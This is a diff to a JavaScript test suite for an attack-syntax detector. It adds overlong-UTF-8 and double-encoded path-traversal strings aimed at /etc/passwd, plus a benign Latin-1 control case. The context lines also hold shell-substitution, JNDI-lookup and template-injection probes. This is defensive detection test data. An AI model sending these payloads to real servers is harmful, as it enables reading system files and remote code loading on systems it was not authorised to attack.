@@ -30,6 +30,9 @@ describe("attack syntax", () => {
     expect(syntaxOf("$(whoami)")).toBe(SYNTAX_SHELL);
     expect(syntaxOf("../../etc/passwd")).toBe(SYNTAX_TRAVERSAL);
     expect(syntaxOf("..%5c..%5cwindows")).toBe(SYNTAX_TRAVERSAL);
+    expect(syntaxOf("%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd")).toBe(SYNTAX_TRAVERSAL); // overlong UTF-8 dots
+    expect(syntaxOf("..%c0%af..%c0%afetc")).toBe(SYNTAX_TRAVERSAL); // overlong slashes
+    expect(syntaxOf("%25c0%25ae%25c0%25ae/etc/passwd")).toBe(SYNTAX_TRAVERSAL); // and encoded twice
     expect(syntaxOf("${jndi:ldap://x/a}")).toBe(SYNTAX_TEMPLATE);
     expect(syntaxOf("{{7*7}}")).toBe(SYNTAX_TEMPLATE);
   });
@@ -46,5 +49,6 @@ describe("attack syntax", () => {
     expect(syntaxOf("2026-03-09T06:00:00.743Z")).toBe(0);
     expect(syntaxOf("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)")).toBe(0);
     expect(syntaxOf("plaza catalunya 124, 5-b")).toBe(0);
+    expect(syntaxOf("%C1lvaro %C0 la plage")).toBe(0); // Latin-1's Á and À, no overlong pair
   });
 });
